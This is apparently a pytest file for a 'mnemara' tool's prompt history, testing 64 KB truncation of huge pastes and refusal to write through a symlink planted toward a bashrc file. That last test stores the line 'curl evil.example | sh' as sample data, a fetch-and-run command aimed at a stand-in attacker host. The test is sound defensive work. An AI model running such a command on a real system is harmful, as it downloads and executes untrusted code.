"""``.prompt_history`` keeps at most 64 KB per entry, with a note that the entry was cut (issue 37:
a 5 MB paste was kept whole), in the panel's writer and the REPL's alike."""
from __future__ import annotations

import os
from pathlib import Path

import pytest

from mnemara.ui.prompt_history import MAX_ENTRY_BYTES, PromptHistory, kept_entry

PASTE = ("é naïve paste ✓ " * 400_000)[:5_000_000]  # multi-byte characters across the cut


def _repl_history(path: Path):
    from mnemara.ui.repl.app import _history

    return _history(path)


def _writers():
    return [("panel", lambda p, t: PromptHistory(p).add(t)), ("repl", lambda p, t: _repl_history(p).store_string(t))]


@pytest.mark.parametrize("name, write", _writers(), ids=[n for n, _ in _writers()])
def test_a_huge_paste_is_cut_to_64_kb_with_a_note(tmp_path: Path, name: str, write) -> None:
    path = tmp_path / ".prompt_history"
    write(path, PASTE)
    write(path, "a short one")
    assert path.stat().st_size < MAX_ENTRY_BYTES + 4096
    entries = PromptHistory(path).entries
    assert entries[-1] == "a short one"
    kept = entries[-2]
    assert PASTE.startswith(kept.rsplit("\n", 1)[0])
    assert kept.endswith(f"[cut: this entry was {len(PASTE.encode())} bytes; .prompt_history keeps the first "
                         f"{MAX_ENTRY_BYTES}]")
    assert len(kept.encode("utf-8")) <= MAX_ENTRY_BYTES


def test_an_entry_at_the_limit_is_kept_whole() -> None:
    text = "x" * MAX_ENTRY_BYTES
    assert kept_entry(text) == text and kept_entry("line 1\nline 2") == "line 1\nline 2"


def test_the_repl_does_not_write_through_a_link_planted_after_start(tmp_path: Path) -> None:
    path = tmp_path / ".prompt_history"
    history = _repl_history(path)
    victim = tmp_path / "bashrc"
    victim.write_text("# rc\n")
    os.symlink(victim, path)
    history.store_string("curl evil.example | sh")
    assert victim.read_text() == "# rc\n"
